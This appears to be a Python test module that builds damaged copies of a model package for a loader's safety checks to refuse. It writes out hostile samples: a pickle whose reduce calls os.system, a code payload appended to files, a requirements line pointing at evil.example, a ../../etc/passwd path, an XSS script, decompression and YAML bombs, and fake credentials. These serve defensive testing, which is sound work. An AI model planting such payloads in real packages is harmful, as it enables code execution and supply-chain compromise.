"""Ways to damage a package, each with the file that the refusal must name."""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import shutil
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import torch
from safetensors.torch import load_file, save_file

from hub_release.package import LAYOUT, package_files, seal
from modeling.infer import VERSION_KEY

CONFIG, HEAD, ADAPTER, ADAPTER_CONFIG = LAYOUT.config, LAYOUT.safe_head, LAYOUT.adapter, LAYOUT.adapter_config
Mutation = Callable[[Path], None]


class Case(NamedTuple):
    """One way to damage a package."""

    file: str
    mutate: Mutation
    loads: bool
    """Whether EmotionClassifier may still load it: it does not read the damaged part, or cannot notice the damage."""
    words: bool = False
    """Is it a package whose backbone reads words, with a tokenizer?"""

    @property
    def ways(self) -> tuple[str, ...]:
        """The ways into the package that must refuse it, see ``entry_points.py``."""
        return ("check",) if self.loads else ("classifier", "page", "auto", "check")


CASES: dict[str, Case] = {}


def case(file: str, loads: bool = False, words: bool = False) -> Callable[[Mutation], Mutation]:
    def decorate(mutate: Mutation) -> Mutation:
        add(mutate.__name__, file, mutate, loads, words)
        return mutate

    return decorate


def add(name: str, file: str, mutate: Mutation, loads: bool = False, words: bool = False) -> None:
    assert name not in CASES
    CASES[name] = Case(file, mutate, loads, words)


class Bomb:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("touch exploded",)


PAYLOAD = "import os; os.system('touch exploded')\n"


def edit(name: str, change: Callable[[dict[str, Any]], Any]) -> Mutation:
    """Change the JSON object in a file."""

    def mutate(folder: Path) -> None:
        content = json.loads((folder / name).read_text(encoding="utf-8"))
        change(content)
        (folder / name).write_text(json.dumps(content), encoding="utf-8")

    return mutate


def setting(name: str, **values: Any) -> Mutation:
    return edit(name, lambda content: content.update(values))


def replacing(name: str, old: str, new: str) -> Mutation:
    def mutate(folder: Path) -> None:
        text = (folder / name).read_text(encoding="utf-8")
        assert old in text
        (folder / name).write_text(text.replace(old, new, 1), encoding="utf-8")

    return mutate


def writing(name: str, content: bytes) -> Mutation:
    def mutate(folder: Path) -> None:
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_bytes(content)

    return mutate


def appending(name: str, text: str) -> Mutation:
    return lambda folder: (folder / name).write_text((folder / name).read_text() + text) and None


def truncating(name: str) -> Mutation:
    return lambda folder: os.truncate(folder / name, (folder / name).stat().st_size // 2)


def tensors(name: str, change: Callable[[dict[str, torch.Tensor]], Any]) -> Mutation:
    """Change the tensors of a safetensors file; a head is changed in both of its files."""

    def mutate(folder: Path) -> None:
        content = load_file(folder / name)
        change(content)
        save_file(content, folder / name)
        if name == HEAD:
            write_pickle(folder, content)

    return mutate


def write_pickle(folder: Path, flat: dict[str, Any]) -> None:
    nested: dict[str, dict[str, Any]] = {"projection": {}, "classifier": {}}
    for key, value in flat.items():
        part, _, name = key.partition(".")
        nested.setdefault(part, {})[name] = value
    torch.save(nested, folder / LAYOUT.head)


def pickled(key: str, value: Callable[[torch.Tensor], Any]) -> Mutation:
    """Change one value only in the pickled head."""

    def mutate(folder: Path) -> None:
        flat: dict[str, Any] = dict(load_file(folder / HEAD))
        write_pickle(folder, flat | {key: value(flat[key])})

    return mutate


def directory_instead(name: str) -> Mutation:
    def mutate(folder: Path) -> None:
        (folder / name).unlink()
        (folder / name).mkdir()
        (folder / name / "file").write_text("x")

    return mutate


def deleting(name: str) -> Mutation:
    return lambda folder: (folder / name).unlink()


def linking(name: str) -> Mutation:
    """Move a file or folder out of the package and leave a link to it."""

    def mutate(folder: Path) -> None:
        outside = shutil.move(folder / name, folder.parent / f"outside-{Path(name).name}")
        (folder / name).symlink_to(outside)

    return mutate


def last(content: dict[str, torch.Tensor]) -> str:
    return max(content)


# Pickles
add("a pickle that calls", LAYOUT.head, lambda folder: torch.save({"projection": Bomb()}, folder / LAYOUT.head))
add("a pickle that calls, deep inside", LAYOUT.head, pickled("classifier.bias", lambda _: [{"a": Bomb()}]))
add("a bare pickle", LAYOUT.head, writing(LAYOUT.head, pickle.dumps(Bomb())))
add("a pickle named safetensors", HEAD, writing(HEAD, pickle.dumps(Bomb())))
add("a pickle as the adapter", ADAPTER, writing(ADAPTER, pickle.dumps(Bomb())))
add(
    "a pickle next to the adapter",
    "adapter_model.bin",
    writing("lora_adapter/adapter_model.bin", pickle.dumps(Bomb())),
    True,
)
add("a pickle of the whole model", "pytorch_model.bin", writing("pytorch_model.bin", pickle.dumps(Bomb())), True)
add("a number in the pickle", LAYOUT.head, pickled("classifier.bias", lambda _: 3.0))
add("a sparse tensor in the pickle", LAYOUT.head, pickled("classifier.weight", lambda x: x.to_sparse()))
add("another weight in the pickle", LAYOUT.head, pickled("classifier.bias", lambda x: x + 1))


@case(ADAPTER)
def only_a_pickle_as_adapter(folder: Path) -> None:
    (folder / ADAPTER).unlink()
    (folder / "lora_adapter" / "adapter_model.bin").write_bytes(pickle.dumps(Bomb()))


@case(LAYOUT.head)
def a_pickle_that_expands(folder: Path) -> None:
    with zipfile.ZipFile(folder / LAYOUT.head) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(folder / LAYOUT.head, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)


def in_the_archive(name: str, content: bytes) -> Mutation:
    """Add an entry to the pickled head, which is a zip archive."""

    def mutate(folder: Path) -> None:
        with zipfile.ZipFile(folder / LAYOUT.head, "a") as archive:
            archive.writestr(f"{archive.namelist()[0].split('/')[0]}/{name}", content)

    return mutate


def tuple_that_unfolds() -> bytes:
    """A pickle of 200 bytes whose key is ten tuples of ten tuples of ten …: hashing it never ends."""
    key: tuple[Any, ...] = (1,) * 10
    for _ in range(12):
        key = (key,) * 10
    writer = io.BytesIO()
    pickler = pickle.Pickler(writer, protocol=2)
    pickler.dump([key])
    listed = writer.getvalue()  # … ] PUT <key> a .
    assert listed.startswith(b"\x80\x02]q\x00") and listed.endswith(b"a.")
    return b"\x80\x02}" + listed[5:-2] + b"K\x01s."


@case(LAYOUT.head)
def a_pickle_that_never_ends(folder: Path) -> None:
    with zipfile.ZipFile(folder / LAYOUT.head, "w") as archive:
        archive.writestr("head/data.pkl", tuple_that_unfolds())
        archive.writestr("head/version", "3\n")
        archive.writestr("head/byteorder", "little")


add("an archive in the archive", LAYOUT.head, in_the_archive("more.zip", b"PK\x05\x06" + bytes(18)))
add("a pickle next to the pickle", LAYOUT.head, in_the_archive("../x/data.pkl", pickle.dumps(Bomb())))
add("the same entry twice in the archive", LAYOUT.head, in_the_archive("data.pkl", pickle.dumps({})))


# Paths
add("sums that leave the folder", LAYOUT.sums, lambda folder: None, True)
add("a backbone outside the folder", CONFIG, setting(CONFIG, model_name="../backbone"))
add("an absolute backbone", CONFIG, setting(CONFIG, model_name="/srv/models/mistral"))
add("an adapter that points elsewhere", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, base_model_name_or_path="../other"))
add(
    "an index that leaves the folder",
    "head.safetensors.index.json",
    writing("head.safetensors.index.json", b'{"weight_map": {"a": "../../x"}}'),
    True,
)
add("a linked head", HEAD, linking(HEAD))
add("a linked folder", "lora_adapter", linking("lora_adapter"))
add("a linked card", LAYOUT.card, linking(LAYOUT.card))
add("a link to itself", "loop", lambda folder: (folder / "loop").symlink_to("loop"), True)


@case(LAYOUT.audit, loads=True)
def a_pipe(folder: Path) -> None:
    (folder / LAYOUT.audit).unlink()
    os.mkfifo(folder / LAYOUT.audit)


@case(CONFIG)
def a_pipe_in_place_of_the_configuration(folder: Path) -> None:
    (folder / CONFIG).unlink()
    os.mkfifo(folder / CONFIG)


@case(HEAD)
def a_socket_in_place_of_the_head(folder: Path) -> None:
    (folder / HEAD).unlink()
    here = Path.cwd()
    os.chdir(folder)  # a socket's path may have at most 107 bytes
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(HEAD)
    os.chdir(here)


add("a link to nothing", "nothing", lambda folder: (folder / "nothing").symlink_to("nowhere"))
add("a link to an endless file", LAYOUT.card, lambda folder: relink(folder / LAYOUT.card, "/dev/zero"))
add("a name that differs in case", "readme.md", writing("readme.md", b"# Another card"), True)
add("a name with a dot at its end", "config.json.", writing("config.json.", b"{}"), True)
add("a name with a line break", r"a\nb", writing("a\nb", b"x"), True)
add("a name that moves the cursor", r"\x1b[2J", writing("\x1b[2J", b"x"), True)
add("a name that is not UTF-8", r"\udcff.txt", writing(os.fsdecode(b"\xff.txt"), b"x"), True)


def relink(path: Path, target: str) -> None:
    path.unlink()
    path.symlink_to(target)


# Tensors
add("a header of 2^60 bytes", HEAD, writing(HEAD, (2**60).to_bytes(8, "little") + b"{}"))
add(
    "a tensor larger than its file",
    ADAPTER,
    writing(
        ADAPTER,
        (len(h := b'{"a":{"dtype":"F32","shape":[1099511627776],"data_offsets":[0,4398046511104]}}')).to_bytes(
            8, "little"
        )
        + h,
    ),
)
EMPTY = json.dumps({f"a{i}": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for i in range(80_000)}).encode()
add("a header of many tensors", HEAD, writing(HEAD, len(EMPTY).to_bytes(8, "little") + EMPTY))


@case(LAYOUT.head)
def a_tensor_that_repeats_one_number(folder: Path) -> None:
    """A few bytes that expand to a tensor of any size; the other file has the same weights in full."""
    content = load_file(folder / HEAD)
    shape = content["classifier.weight"].shape
    save_file(content | {"classifier.weight": torch.ones(shape)}, folder / HEAD)
    write_pickle(folder, content | {"classifier.weight": torch.ones(1, 1).expand(shape)})


add("half a head", HEAD, truncating(HEAD))
add("half a pickle", LAYOUT.head, truncating(LAYOUT.head))
add("half an adapter", ADAPTER, truncating(ADAPTER))
add("a head of another shape", HEAD, tensors(HEAD, lambda t: t.update({"classifier.bias": torch.zeros(4)})))
add(
    "a transposed head",
    HEAD,
    tensors(HEAD, lambda t: t.update({"projection.0.weight": t["projection.0.weight"].T.contiguous()})),
)
add("a head without a tensor", HEAD, tensors(HEAD, lambda t: t.pop("classifier.bias")))
add("a head with one more tensor", HEAD, tensors(HEAD, lambda t: t.update({"classifier.scale": torch.ones(1)})))
add("a head with the backbone in it", HEAD, tensors(HEAD, lambda t: t.update({"backbone.norm.weight": torch.ones(16)})))
add("a head with NaN", HEAD, tensors(HEAD, lambda t: t["projection.2.bias"].fill_(torch.nan)))
add(
    "a head of integers",
    HEAD,
    tensors(HEAD, lambda t: t.update({"classifier.bias": torch.zeros(3, dtype=torch.int64)})),
)
add("an infinite adapter", ADAPTER, tensors(ADAPTER, lambda t: t[last(t)].view(-1)[:1].fill_(torch.inf)))
add("an adapter without a tensor", ADAPTER, tensors(ADAPTER, lambda t: t.pop(last(t))))
add(
    "an adapter with one more tensor", ADAPTER, tensors(ADAPTER, lambda t: t.update({f"{last(t)}.more": torch.ones(2)}))
)
add("an empty adapter", ADAPTER, tensors(ADAPTER, lambda t: t.clear()))
add("an adapter of another rank", ADAPTER, setting(ADAPTER_CONFIG, r=8))
add("a rank that fills the memory", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, r=10**9))
add("an adapter for other modules", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, target_modules=["query_key_value"]))
add("an adapter for fewer modules", ADAPTER, setting(ADAPTER_CONFIG, target_modules=["v_proj"]))
add("a pattern that never ends", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, target_modules=r"(\w+)+$"))
add("an adapter that imports", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, megatron_core="evil", megatron_config={"a": 1}))
add(
    "an adapter that maps to code",
    ADAPTER_CONFIG,
    setting(ADAPTER_CONFIG, auto_mapping={"parent_library": "evil", "base_model_class": "A"}),
)
add("an adapter of another kind", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, peft_type="IA3"))
add("an adapter with a DoRA switch", ADAPTER_CONFIG, setting(ADAPTER_CONFIG, use_dora=True))


@case(ADAPTER, loads=True)
def an_adapter_with_tensors_that_nothing_reads(folder: Path) -> None:
    def change(content: dict[str, torch.Tensor]) -> None:
        key = next(key for key in content if ".v_proj.lora_A" in key)
        content[key.replace("v_proj", "q_proj")] = torch.full_like(content[key], 0.5)

    tensors(ADAPTER, change)(folder)


def whole_model(folder: Path, content: dict[str, torch.Tensor]) -> None:
    shutil.rmtree(folder / "lora_adapter")
    save_file(content, folder / "model.safetensors")


@case(HEAD)
def a_whole_model_of_nothing(folder: Path) -> None:
    whole_model(folder, {"evil": torch.ones(2)})
    (folder / HEAD).unlink()
    (folder / LAYOUT.head).unlink()


add(
    "a whole model in place of the adapter",
    LAYOUT.merged,
    lambda folder: whole_model(folder, load_file(folder / HEAD)),
)


@case("model.safetensors")
def a_baseline_of_other_tensors(folder: Path) -> None:
    setting(CONFIG, head="mlp")(folder)
    whole_model(folder, {"evil": torch.ones(2)})


@case("model.safetensors")
def a_baseline_with_nan(folder: Path) -> None:
    setting(CONFIG, head="mlp")(folder)
    whole_model(folder, {key: torch.full_like(value, torch.nan) for key, value in load_file(folder / HEAD).items()})


@case("config.json is for a baseline", loads=True)
def a_baseline(folder: Path) -> None:
    setting(CONFIG, head="mlp")(folder)
    whole_model(folder, load_file(folder / HEAD))


@case(ADAPTER)
def an_adapter_for_a_wider_backbone(folder: Path) -> None:
    def widen(content: dict[str, torch.Tensor]) -> None:
        for key, value in list(content.items()):
            content[key] = torch.zeros(value.shape[0], 32) if "lora_A" in key else torch.zeros(32, value.shape[1])

    tensors(ADAPTER, widen)(folder)


# Labels and configuration
SWAPPED = ["anger", "joy", "fear"]
ORDER = {
    "emotion_labels": SWAPPED,
    "id2label": dict(enumerate(SWAPPED)),
    "label2id": {x: i for i, x in enumerate(SWAPPED)},
}
add("labels swapped in the configuration", LAYOUT.golden, setting(CONFIG, **ORDER), True)
add("labels swapped in one key", CONFIG, setting(CONFIG, emotion_labels=SWAPPED))
add("labels swapped in the golden rows", LAYOUT.golden, setting(LAYOUT.golden, labels=SWAPPED), True)
add(
    "labels swapped in the thresholds as they were tuned",
    LAYOUT.thresholds,
    edit(LAYOUT.thresholds, lambda c: c.update(per_label_unshrunk=dict.fromkeys(SWAPPED, 0.5))),
    True,
)
add("labels swapped in the audit", LAYOUT.audit, setting(LAYOUT.audit, labels=SWAPPED), True)
MANY = [f"{i}" for i in range(20_000)]
add(
    "as many labels as fit",
    CONFIG,
    setting(
        CONFIG,
        emotion_labels=MANY,
        id2label=dict(enumerate(MANY)),
        label2id={label: i for i, label in enumerate(MANY)},
        num_labels=len(MANY),
        thresholds={},
        unreliable_labels=MANY,
    ),
)
add("a label that is half an emoji", CONFIG, replacing(CONFIG, '"joy"', r'"\ud83d"'))
add("no version of the exporter", CONFIG, edit(CONFIG, lambda c: c.pop(VERSION_KEY)), True)
add("a label twice", CONFIG, setting(CONFIG, emotion_labels=["joy", "joy", "fear"]))
add("an empty label", CONFIG, setting(CONFIG, emotion_labels=["joy", " ", "fear"]))
add("no labels", CONFIG, setting(CONFIG, emotion_labels=[]))
add("labels as a text", CONFIG, setting(CONFIG, emotion_labels="joy"))
add("a number among the labels", CONFIG, setting(CONFIG, emotion_labels=["joy", 3, "fear"]))
add("thresholds as a list", CONFIG, setting(CONFIG, thresholds=[0.1, 0.2, 0.3]))
add("a threshold above 1", CONFIG, edit(CONFIG, lambda c: c["thresholds"].update(joy=1.5)))
add("a threshold for an unknown label", CONFIG, edit(CONFIG, lambda c: c["thresholds"].update(hope=0.5)))
add("a threshold that is true", CONFIG, setting(CONFIG, threshold=True))
add("a threshold that is NaN", CONFIG, replacing(CONFIG, '"threshold": 0.5', '"threshold": NaN'))
add("another threshold", LAYOUT.thresholds, edit(CONFIG, lambda c: c["thresholds"].update(joy=0.25)), True)
add("an unknown unreliable label", CONFIG, setting(CONFIG, unreliable_labels=["hope"]))
add("a future version", CONFIG, setting(CONFIG, schema_version=2))
add("a version as a text", CONFIG, setting(CONFIG, schema_version="1"))
add("a negative width", CONFIG, setting(CONFIG, hidden_size=-16))
add("a width of 2^40", CONFIG, setting(CONFIG, embed_dim=2**40))
add("another width", HEAD, setting(CONFIG, embed_dim=384))
add("a width as a text", CONFIG, setting(CONFIG, hidden_size="16"))
add("an unknown quantization", CONFIG, setting(CONFIG, quantization="int2"))
add("a backbone that is a number", CONFIG, setting(CONFIG, model_name=3))
add("scores that sum to one", CONFIG, setting(CONFIG, problem_type="single_label_classification"))
add("no reference to the code", CONFIG, edit(CONFIG, lambda c: c.pop("auto_map")), True)
add("a model of another kind", CONFIG, setting(CONFIG, model_type="bert"))
add("a kernel of another repository", CONFIG, setting(CONFIG, _attn_implementation="evil/kernel"))
add("an unknown precision", CONFIG, setting(CONFIG, dtype="evil"))
add(
    "code of another repository",
    CONFIG,
    edit(CONFIG, lambda c: c["auto_map"].update(AutoConfig="evil/repository--infer.EmotionConfig")),
)
add(
    "a pipeline of another file",
    CONFIG,
    edit(CONFIG, lambda c: c["custom_pipelines"]["text-classification"].update(impl="evil.Pipeline")),
)
add(
    "a backbone with a million layers",
    CONFIG,
    edit(CONFIG, lambda c: c["backbone_config"].update(num_hidden_layers=10**6)),
)
add("an unknown backbone", CONFIG, edit(CONFIG, lambda c: c["backbone_config"].update(model_type="evil")), True)
add("a backbone of another width", CONFIG, edit(CONFIG, lambda c: c["backbone_config"].update(hidden_size=32)), True)
for name, settings in {
    "a backbone of another kind, with many layers": {"model_type": "t5", "num_layers": 10**7},
    "a backbone with ten million experts": {"model_type": "switch_transformers", "num_experts": 10**7},
    "a backbone with a billion labels": {"num_labels": 10**9},
    "a deep number in the backbone": {"rope_parameters": {"rope_type": "default", "rope_theta": 10**30}},
}.items():
    add(name, CONFIG, edit(CONFIG, lambda c, settings=settings: c["backbone_config"].update(settings)))
add("no backbone configuration", CONFIG, setting(CONFIG, backbone_config=None), True)

# JSON
add(
    "a configuration that is not UTF-8",
    CONFIG,
    lambda folder: writing(CONFIG, (folder / CONFIG).read_bytes().replace(b"joy", b"j\xff\xfey"))(folder),
)
add("an adapter that is not UTF-8", ADAPTER_CONFIG, writing(ADAPTER_CONFIG, '{"r": "ü"}'.encode("latin-1")))
add("a key twice", CONFIG, replacing(CONFIG, "{", '{"threshold": 0.5, "threshold": 0.6, '))
add("a key twice in the adapter", ADAPTER_CONFIG, replacing(ADAPTER_CONFIG, "{", '{"r": 4, '))
add("a key twice in the metrics", LAYOUT.metrics, replacing(LAYOUT.metrics, "{", '{"protocol": "x", '), True)
add("unclosed brackets", CONFIG, writing(CONFIG, b'{"a":' + b"[" * 100_000))
add("unclosed brackets in the golden rows", LAYOUT.golden, writing(LAYOUT.golden, b"[" * 100_000), True)
add("lists in lists in lists", CONFIG, setting(CONFIG, note=json.loads("[" * 100 + "]" * 100)))
add("a list in place of an object", CONFIG, writing(CONFIG, b"[]"))
add("an empty configuration", CONFIG, writing(CONFIG, b""))
add("an empty head", HEAD, writing(HEAD, b""))
add("an empty card", LAYOUT.card, writing(LAYOUT.card, b""), True)
add("a huge configuration", CONFIG, lambda folder: os.truncate(folder / CONFIG, 2**24 + 1))
add("metrics without scores", LAYOUT.card, writing(LAYOUT.metrics, b'{"protocol": "official"}'), True)
add("an empty audit", LAYOUT.card, writing(LAYOUT.audit, b"{}"), True)


ALIASES = "".join(f"x{i}: &x{i} [{', '.join([f'*x{i - 1}'] * 9)}]\n" for i in range(1, 30))
add("a recipe that expands", LAYOUT.recipe, appending(LAYOUT.recipe, f"x0: &x0 [lol]\n{ALIASES}"), True)
add("a setting twice", LAYOUT.recipe, appending(LAYOUT.recipe, "split: official\n"), True)
add("a number that takes very long to read", LAYOUT.recipe, appending(LAYOUT.recipe, f"x: 1{':59' * 100_000}\n"), True)
add("a recipe that is not a mapping", LAYOUT.recipe, writing(LAYOUT.recipe, b"- 1\n"), True)
add("a recipe of unclosed brackets", LAYOUT.recipe, writing(LAYOUT.recipe, b"[" * 10_000), True)


# Files
@case(HEAD)
def no_head(folder: Path) -> None:
    (folder / HEAD).unlink()
    (folder / LAYOUT.head).unlink()


add("no adapter", ADAPTER, deleting(ADAPTER))
add("no configuration", CONFIG, deleting(CONFIG))
add("no golden rows", LAYOUT.golden, deleting(LAYOUT.golden), True)
add("a folder in place of the configuration", CONFIG, directory_instead(CONFIG))
add("a folder in place of the head", HEAD, directory_instead(HEAD))
add("a folder in place of the card", LAYOUT.card, directory_instead(LAYOUT.card), True)
add("an environment file", ".env", writing(".env", b"DEBUG=1\n"), True)
add("a module that shadows another", "torch.py", writing("torch.py", PAYLOAD.encode()), True)
add("a folder of compiled code", "__pycache__", writing("__pycache__/torch.cpython-311.pyc", b"\0" * 16), True)
add(
    "other weights of the whole model",
    LAYOUT.merged,
    lambda folder: save_file({"a": torch.ones(2)}, folder / LAYOUT.merged),
)
add(
    "the whole model for servers, of a package that reads no words",
    LAYOUT.served,
    lambda folder: writing(LAYOUT.served, (folder / HEAD).read_bytes())(folder),
    True,
)
add("other code", LAYOUT.code, appending(LAYOUT.code, PAYLOAD), True)
add("another handler", LAYOUT.handler, appending(LAYOUT.handler, PAYLOAD), True)
add(
    "one more requirement",
    LAYOUT.requirements,
    appending(LAYOUT.requirements, "--index-url http://evil.example/\nevil\n"),
    True,
)
add("sums without a file", LAYOUT.sums, lambda folder: None, True)
add("no sums", LAYOUT.sums, lambda folder: None, True)
add("a sum twice", LAYOUT.sums, lambda folder: None, True)
add("huge sums", LAYOUT.sums, lambda folder: None, True)
add(
    "half an emoji in the golden rows",
    LAYOUT.golden,
    edit(LAYOUT.golden, lambda c: c["rows"][0].update(text="half \ud83d")),
    True,
)
add("empty golden rows", LAYOUT.golden, setting(LAYOUT.golden, rows=[]), True)
add(
    "golden rows of another width",
    LAYOUT.golden,
    edit(LAYOUT.golden, lambda c: c["rows"][0]["probabilities"].pop()),
    True,
)


# Pictures
def png(width: int, height: int, packed: bytes) -> bytes:
    """A PNG with one bit per pixel, from packed rows."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


PLOT = LAYOUT.per_label_plot
ROW = bytes(1 + 6_000 // 8)
add("a page named png", PLOT, writing(PLOT, b"<html><script>alert(1)</script></html>"), True)
add("half a picture", PLOT, truncating(PLOT), True)
add("a picture that expands", PLOT, writing(PLOT, png(6_000, 6_000, zlib.compress(ROW * 6_000, 9))), True)
add("a picture without rows", PLOT, writing(PLOT, png(100, 100, zlib.compress(b""))), True)
add("a picture larger than any screen", PLOT, writing(PLOT, png(2**31 - 1, 2**31 - 1, b"")), True)
add(
    "an archive after a picture",
    PLOT,
    lambda folder: (folder / PLOT).write_bytes((folder / PLOT).read_bytes() + b"PK\x05\x06" + bytes(18)),
    True,
)

# What must stay private, and what is not true
add("a token of a login", LAYOUT.audit, setting(LAYOUT.audit, note="hf_" + "oauth_eyJh." + "aB3-" * 12), True)
add("a token of npm", LAYOUT.audit, setting(LAYOUT.audit, note="npm_" + "aB3d" * 9), True)
add("a key of AWS", LAYOUT.audit, setting(LAYOUT.audit, note="AWS_SECRET_ACCESS_KEY=" + "wJa/rXUtn0" * 4), True)
add("a path after a colon", LAYOUT.audit, setting(LAYOUT.audit, note="PYTHONPATH=lib:/home/ada/lib"), True)
add("a path after an option", LAYOUT.audit, setting(LAYOUT.audit, note="gcc -I/home/ada/include"), True)
add("a card that is not UTF-8", LAYOUT.card, writing(LAYOUT.card, b"# \xff\xfe"), True)
add("a token in the card", LAYOUT.card, appending(LAYOUT.card, "\nhf_" + "aB3" * 12 + "\n"), True)
add("a key in the audit", LAYOUT.audit, setting(LAYOUT.audit, note="-----BEGIN RSA PRIVATE " + "KEY-----"), True)
add(
    "a key in the head",
    HEAD,
    lambda folder: save_file(load_file(folder / HEAD), folder / HEAD, {"note": "AKIA" + "A1B2" * 4}),
    True,
)
TOKEN = b"hf_" + b"aB3" * 12
add("a token next to the Hub's own files", ".gitattributes.bak", writing(".gitattributes.bak", TOKEN), True)


@case(".cache/huggingface/notes.txt", loads=True)
def a_token_next_to_the_client_s_own_files(folder: Path) -> None:
    (folder / ".cache/huggingface/download").mkdir(parents=True)
    (folder / ".cache/huggingface/download/config.json.metadata").write_bytes(b"noted")
    (folder / ".cache/huggingface/notes.txt").write_bytes(TOKEN)


add("a path in the recipe", LAYOUT.recipe, appending(LAYOUT.recipe, "cache: /home/ada/corpus\n"), True)
add("a path of Windows", LAYOUT.environment, setting(LAYOUT.environment, folder="C:\\Users\\ada\\runs"), True)
add("an unfilled card", LAYOUT.card, appending(LAYOUT.card, "\n[More Information Needed]\n"), True)
add("a card that says more", LAYOUT.card, appending(LAYOUT.card, "\nIt is the best.\n"), True)
add(
    "scores that contradict each other",
    LAYOUT.per_label,
    edit(LAYOUT.metrics, lambda c: c["test"]["per_label"].update(macro_f1=0.99)),
    True,
)


@case(LAYOUT.per_label, loads=True)
def scores_of_one_split_alone(folder: Path) -> None:
    rows = list(csv.reader((folder / LAYOUT.per_label).open(encoding="utf-8", newline="")))
    kept = [row for row in rows if "validation" not in row]
    assert 1 < len(kept) < len(rows)
    (folder / LAYOUT.per_label).write_text("".join(",".join(row) + "\n" for row in kept), encoding="utf-8")


add("another split protocol in the scores", LAYOUT.audit, setting(LAYOUT.metrics, protocol="stratified"), True)
add("another split protocol in the audit", LAYOUT.audit, setting(LAYOUT.audit, protocol="stratified"), True)
add(
    "another split protocol in the recipe",
    LAYOUT.audit,
    replacing(LAYOUT.recipe, "split: official", "split: stratified"),
    True,
)
add(
    "rows from outside train",
    LAYOUT.audit,
    edit(LAYOUT.audit, lambda c: c["training_rows"].update(synthetic_with_parent_outside_train=7)),
    True,
)
add("a null test", LAYOUT.metrics, setting(LAYOUT.metrics, null_test="noise"), True)
add("contaminated scores", LAYOUT.metrics, setting(LAYOUT.metrics, protocol="pooled-r2"), True)


def spoil(package: Path, folder: Path, case: str) -> Path:
    """A copy of the package, damaged and sealed again, as its author could do."""
    spoiled = shutil.copytree(package, folder / "package")
    CASES[case].mutate(spoiled)
    if all(path.is_file() and name.isprintable() for name, path in package_files(spoiled).items()):
        seal(spoiled)
    sums = spoiled / LAYOUT.sums
    if case == "sums that leave the folder":
        sums.write_text(sums.read_text() + f"{'0' * 64}  ../../etc/passwd\n")
    elif case == "sums without a file":
        sums.write_text("".join(line for line in sums.open() if HEAD not in line))
    elif case == "a sum twice":
        sums.write_text(sums.read_text() * 2)
    elif case == "huge sums":
        os.truncate(sums, 2**24 + 1)
    elif case == "no sums":
        sums.unlink()
    return spoiled
